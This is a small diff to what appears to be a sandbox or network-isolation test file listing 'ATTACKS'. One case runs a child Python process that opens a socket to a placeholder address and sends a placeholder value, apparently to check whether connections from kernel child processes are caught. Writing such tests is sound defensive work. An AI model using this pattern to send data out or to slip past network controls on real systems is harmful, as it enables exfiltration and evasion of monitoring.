@@ -47,7 +47,7 @@ ATTACKS = [
         "from-a-child",
         "A child process of the kernel makes the connection.",
         "import subprocess, sys",
-        "code = f'import socket; socket.create_connection({@TCP4@}, 3).sendall({@NAME@.encode()})'",
+        "code = 'import socket; socket.create_connection(%r, 3).sendall(%r)' % (@TCP4@, @NAME@.encode())",
         "subprocess.run([sys.executable, '-c', code], timeout=20)",
     ),
     connect(
